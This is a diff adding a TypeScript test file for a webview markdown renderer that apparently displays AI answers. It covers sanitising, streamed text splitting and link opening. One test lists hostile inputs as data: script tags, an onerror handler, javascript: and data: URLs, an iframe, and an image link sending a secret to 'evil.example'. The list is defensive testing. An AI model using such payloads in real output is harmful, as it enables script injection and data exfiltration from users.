@@ -1,0 +1,110 @@
+// @vitest-environment jsdom
+import { describe, expect, it } from "vitest";
+import { pieces, toHtml } from "../../src/webview/markdown";
+import { followLink } from "../../src/webview/blocks/prose";
+
+const dom = (text: string) => {
+  const box = document.createElement("div");
+  box.innerHTML = toHtml(text);
+  return box;
+};
+
+describe("an answer", () => {
+  it("R000-52: puts no HTML, script, style, handler or address of an image on the page", () => {
+    const evil = [
+      "<script>alert(1)</script>",
+      '<img src=x onerror="alert(1)">',
+      "![x](https://evil.example/leak?secret)",
+      "[x](javascript:alert(1))",
+      "[x](vbscript:x)",
+      '<a href="command:x">x</a>',
+      "[x](data:text/html;base64,PHNjcmlwdD4=)",
+      '<button data-action="copy">x</button>',
+      "<style>*{}</style>",
+      '<iframe src="https://evil.example"></iframe>',
+      "| a |\n|:-:|\n| b |",
+    ];
+    for (const text of evil) {
+      const box = dom(text);
+      expect(box.querySelectorAll("script, style, iframe, img, [style], [onerror], [data-action]").length, text).toBe(
+        0,
+      );
+      expect(
+        [...box.querySelectorAll("a")]
+          .map((link) => link.getAttribute("href"))
+          .filter((href) => /^(javascript|vbscript|command|data:text)/i.test(href ?? "")),
+        text,
+      ).toEqual([]);
+    }
+    expect(dom("![x](https://evil.example/leak)").querySelector("a")?.getAttribute("href")).toBe(
+      "https://evil.example/leak",
+    );
+  });
+
+  it("shows code as text, with what can be done with it", () => {
+    const box = dom('```rs\nlet x = "<b>";\n```');
+    expect(box.querySelector("code")?.textContent).toBe('let x = "<b>";\n');
+    expect(
+      [...box.querySelectorAll("[data-action]")].map((button) => [
+        button.getAttribute("data-action"),
+        button.getAttribute("aria-label"),
+      ]),
+    ).toEqual([
+      ["copy", "Copy the code"],
+      ["insert", "Insert the code at the cursor"],
+      ["open", "Open the code in an editor"],
+    ]);
+    expect(box.querySelector(".code")?.getAttribute("data-language")).toBe("rs");
+  });
+
+  it("a name of a file is no address", () => {
+    expect(dom("see main.rs and https://example.org").querySelectorAll("a").length).toBe(1);
+  });
+});
+
+describe("a text that grows", () => {
+  const TEXTS = [
+    "",
+    "a",
+    "a\n\nb\n\nc",
+    "# t\n\n```rs\na\n\nb\n```\n\nafter",
+    "- a\n\n- b\n\n  more\n\nafter",
+    "1. a\n\n2. b\n",
+    "~~~\n```\n\n~~~\n\nx",
+    "a\n\n    code\n\n    more\n\nb",
+  ];
+
+  it("is its pieces", () => {
+    for (const text of TEXTS) expect(pieces(text).join("")).toBe(text);
+  });
+
+  it("a piece that is finished stays as it is, whatever comes", () => {
+    for (const text of TEXTS) {
+      let before: string[] = [];
+      for (let end = 0; end <= text.length; end += 1) {
+        const now = pieces(text.slice(0, end));
+        expect(now.slice(0, Math.max(0, before.length - 1))).toEqual(before.slice(0, -1));
+        before = now;
+      }
+    }
+  });
+
+  it("is not cut inside of code or of a list", () => {
+    expect(pieces("```rs\na\n\nb\n```\n\nafter")).toEqual(["```rs\na\n\nb\n```\n\n", "after"]);
+    expect(pieces("- a\n\n- b\n\nafter")).toEqual(["- a\n\n- b\n\n", "after"]);
+  });
+});
+
+it("links open the web outside and files with their line in the editor", () => {
+  const done: unknown[] = [];
+  const model = { editor: async (...args: unknown[]) => void done.push(args) } as never;
+  for (const href of ["https://example.org", "src/a%20b.rs:12", "src/a.rs:12:3", "src/a.rs#L7-L9", "README.md", "#x"])
+    followLink(href, model);
+  expect(done).toEqual([
+    ["editor.openLink", { uri: "https://example.org" }],
+    ["editor.openFile", { path: "src/a b.rs", line: 12 }],
+    ["editor.openFile", { path: "src/a.rs", line: 12 }],
+    ["editor.openFile", { path: "src/a.rs", line: 7 }],
+    ["editor.openFile", { path: "README.md" }],
+  ]);
+});
